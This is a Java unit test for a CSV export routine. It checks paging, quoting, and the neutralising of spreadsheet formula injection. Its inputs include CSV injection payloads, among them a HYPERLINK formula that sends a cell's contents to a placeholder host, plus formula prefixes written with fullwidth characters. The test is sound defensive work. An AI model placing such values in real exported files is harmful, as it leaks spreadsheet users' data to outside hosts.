package id.pkh.platform.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvExportTest {

    private static String written(int pageSize, List<List<String>> rows) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        List<Integer> numbers = new ArrayList<>();
        for (int i = 0; i < rows.size(); i++) {
            numbers.add(i);
        }
        CsvExport.Pages<Integer> pages =
                last -> {
                    int from = last == null ? 0 : last + 1;
                    return numbers.subList(from, Math.min(from + pageSize, numbers.size()));
                };
        try {
            CsvExport.write(out, List.of("a", "b"), pages.after(null), pages, rows::get);
        } catch (IOException impossible) {
            throw new AssertionError(impossible);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void everyPageIsWrittenOnce() {
        List<List<String>> rows = List.of(List.of("1", "x"), List.of("2", "y"), List.of("3", "z"));
        for (int pageSize = 1; pageSize <= 4; pageSize++) {
            assertThat(written(pageSize, rows)).isEqualTo("\uFEFFa;b\r\n1;x\r\n2;y\r\n3;z\r\n");
        }
    }

    @Test
    void anEmptyListHasItsHeader() {
        assertThat(written(2, List.of())).isEqualTo("\uFEFFa;b\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://x/\"&B2)",
                "+1",
                "-1",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uFF1D1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF201"
            })
    void noProgramComputesACell(String cell) {
        assertThat(CsvExport.text(cell)).isEqualTo("'" + cell);
    }

    @Test
    void otherCellsStayAsTheyAre() {
        assertThat(CsvExport.text(null)).isEmpty();
        assertThat(CsvExport.text("")).isEmpty();
        assertThat(CsvExport.text("17.71.08.1001")).isEqualTo("17.71.08.1001");
        assertThat(CsvExport.text("a=b")).isEqualTo("a=b");
        assertThat(CsvExport.text(5)).isEqualTo("5");
    }

    /** A separator and a line break within a cell begin no cell, because the cell is quoted. */
    @Test
    void aCellCannotBeginAnother() {
        assertThat(written(1, List.of(Arrays.asList("x;=1", "y\r\n=2 \"z\""))))
                .isEqualTo("\uFEFFa;b\r\n\"x;=1\";\"y\r\n=2 \"\"z\"\"\"\r\n");
    }
}
